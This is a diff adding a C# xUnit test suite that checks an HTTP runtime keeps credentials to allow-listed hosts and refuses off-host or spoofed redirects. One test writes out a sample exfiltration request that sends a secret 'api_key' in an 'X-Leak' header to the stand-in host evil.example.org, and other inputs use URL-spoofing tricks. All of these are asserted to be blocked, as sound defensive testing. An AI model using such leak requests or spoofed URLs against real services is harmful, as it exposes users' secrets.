@@ -1,0 +1,106 @@
+using Interactor.Runtime.Http;
+using Interactor.Runtime.Json;
+using Interactor.Runtime.Tests.Fakes;
+using Xunit;
+using static Interactor.Runtime.Tests.Fakes.FakeProvider;
+
+namespace Interactor.Runtime.Tests.Execution;
+
+public sealed class EgressTests
+{
+    private static readonly CancellationToken Token = TestContext.Current.CancellationToken;
+
+    private readonly FakeProvider _provider = new(static _ => Answer("1"));
+
+    [Theory]
+    [InlineData("https://evil.example.org/x")]
+    [InlineData("http://api.example.com/x")]
+    [InlineData("https://api.example.com@evil.example.org/x")]
+    public async Task A_credential_goes_to_listed_hosts_only(string url)
+    {
+        Assert.Equal(ErrorCode.AuthDenied, (await FailAsync((request, _, _) => request.Url(url), ["key"])).Code);
+        Assert.Empty(_provider.Requests);
+    }
+
+    [Fact]
+    public async Task A_server_outside_the_list_is_refused_too()
+    {
+        RequestAction<JsonValue, JsonValue> action = new() { Id = "x", Version = "1.0.0", Methods = ["key"], Input = JsonContracts.Any, Output = JsonContracts.Any, Server = "evil", Method = "GET", Build = static (request, _, _) => request.PathLiteral("/x") };
+        Assert.Equal(ErrorCode.AuthDenied, (await Assert.ThrowsAsync<InteractorException>(() => Executor().ExecuteAsync(action, JsonValue.Null, cancellationToken: Token))).Code);
+        Assert.Empty(_provider.Requests);
+    }
+
+    [Fact]
+    public async Task A_request_without_a_credential_may_go_anywhere()
+    {
+        await Executor().ExecuteAsync(TestActions.Get(static (request, _, _) => request.Url("http://download.example.org/x"), []), JsonValue.Null, cancellationToken: Token);
+        Assert.Equal("http://download.example.org/x", _provider.Only.Url);
+    }
+
+    [Fact]
+    public async Task A_secret_variable_makes_a_request_carry_a_credential()
+    {
+        static void Build(RequestBuilder request, JsonValue input, ActionContext context)
+        {
+            request.Url("https://evil.example.org/x");
+            request.Header("X-Leak", context.Variables.Text("api_key"));
+        }
+
+        Assert.Equal(ErrorCode.AuthDenied, (await FailAsync(Build, [])).Code);
+        Assert.Empty(_provider.Requests);
+    }
+
+    [Theory]
+    [InlineData(301)]
+    [InlineData(302)]
+    [InlineData(303)]
+    [InlineData(307)]
+    [InlineData(308)]
+    public async Task A_get_follows_redirects_within_its_host(int status)
+    {
+        FakeProvider provider = new(_ => Status(status, ("Location", "/v2/thing?x=1#frag")), _ => Status(status, ("Location", "https://api.example.com/v3/thing")), static _ => Answer("7"));
+        Assert.Equal("7", (await Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token)).ToString());
+        Assert.Equal(["https://api.example.com/v1/thing", "https://api.example.com/v2/thing?x=1", "https://api.example.com/v3/thing"], provider.Requests.Select(static request => request.Url));
+        Assert.All(provider.Requests, static request => Assert.Equal(TestConnector.Secret, request.Header("X-Key")));
+    }
+
+    [Theory]
+    [InlineData("https://evil.example.org/")]
+    [InlineData("http://api.example.com/")]
+    [InlineData("https://api.example.com:444/")]
+    [InlineData("//evil.example.org/")]
+    [InlineData("https://x@api.example.com/")]
+    public async Task A_redirect_elsewhere_is_not_followed(string location)
+    {
+        FakeProvider provider = new(_ => Status(302, ("Location", location)), static _ => Answer("7"));
+        InteractorException failure = await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token));
+        Assert.Equal((ErrorCode.ProviderError, 302), (failure.Code, failure.Status));
+        Assert.Contains("redirect", failure.Message, StringComparison.Ordinal);
+        Assert.Single(provider.Requests);
+    }
+
+    [Fact]
+    public async Task Redirects_do_not_go_on_for_ever_and_a_post_follows_none()
+    {
+        FakeProvider provider = new(static _ => Status(302, ("Location", "/v1/thing")));
+        await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Get(), JsonValue.Null, cancellationToken: Token));
+        Assert.Equal(6, provider.Requests.Count);
+        provider.Requests.Clear();
+        await Assert.ThrowsAsync<InteractorException>(() => Executor(provider).ExecuteAsync(TestActions.Create(), new Thing("a", 1), cancellationToken: Token));
+        Assert.Single(provider.Requests);
+    }
+
+    [Fact]
+    public void A_handler_that_follows_redirects_itself_is_refused()
+    {
+        using HttpClientHandler handler = new();
+        Assert.Throws<ArgumentException>(() => new ActionExecutor(TestConnector.Make(), new ConnectorOptions { HttpHandler = handler }));
+        using SocketsHttpHandler safe = new() { AllowAutoRedirect = false };
+        _ = new ActionExecutor(TestConnector.Make(), new ConnectorOptions { HttpHandler = safe });
+    }
+
+    private ActionExecutor Executor(FakeProvider? provider = null) => new(TestConnector.Make(), TestConnector.Options(provider ?? _provider));
+
+    private Task<InteractorException> FailAsync(Action<RequestBuilder, JsonValue, ActionContext> build, string[] methods) =>
+        Assert.ThrowsAsync<InteractorException>(() => Executor().ExecuteAsync(TestActions.Get(build, methods), JsonValue.Null, cancellationToken: Token));
+}
